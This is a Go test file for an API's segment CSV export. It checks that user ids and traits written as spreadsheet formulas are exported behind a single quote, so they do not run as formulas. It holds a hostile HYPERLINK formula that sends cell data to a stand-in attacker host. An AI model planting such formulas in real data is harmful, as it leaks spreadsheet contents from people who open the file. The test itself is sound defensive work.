package api_test

import (
	"encoding/csv"
	"io"
	"net/http"
	"strings"
	"testing"
)

// A write key can give a person any user id: one written as a spreadsheet
// formula reaches the segment export as text, not as a formula that runs
// when a marketer opens the file (OWASP's CSV injection).
func TestSegmentExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	sg := e.createSegment(t, "vips", `profile.traits.vip == true`)
	hostile := `=HYPERLINK("https://evil.example/?d="&A1,"Click for your report")`
	e.mustSend(t, e.write, "/v1/identify", map[string]any{"userId": hostile, "traits": map[string]any{"vip": true, "nickname": hostile}})
	e.mustSend(t, e.write, "/v1/identify", map[string]any{"userId": "-2+3", "traits": map[string]any{"vip": true}})

	for _, path := range []string{"/v1/segments/" + sg["id"].(string) + "/export"} {
		req, _ := http.NewRequest("GET", e.url+path, nil)
		req.Header.Set("Authorization", "Bearer "+e.admin)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		raw, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		recs, err := csv.NewReader(strings.NewReader(string(raw))).ReadAll()
		if err != nil || resp.StatusCode != 200 || len(recs) != 3 {
			t.Fatalf("export: %d %v %q", resp.StatusCode, err, raw)
		}
		users := map[string]bool{}
		for _, r := range recs[1:] {
			users[r[3]] = true
			for _, cell := range r {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("cell %q starts a formula", cell)
				}
			}
		}
		// The value is still there, readable, behind the quote spreadsheets hide.
		if !users["'"+hostile] || !users["'-2+3"] {
			t.Fatalf("user ids exported as %v, want the values behind a single quote", users)
		}
	}
}
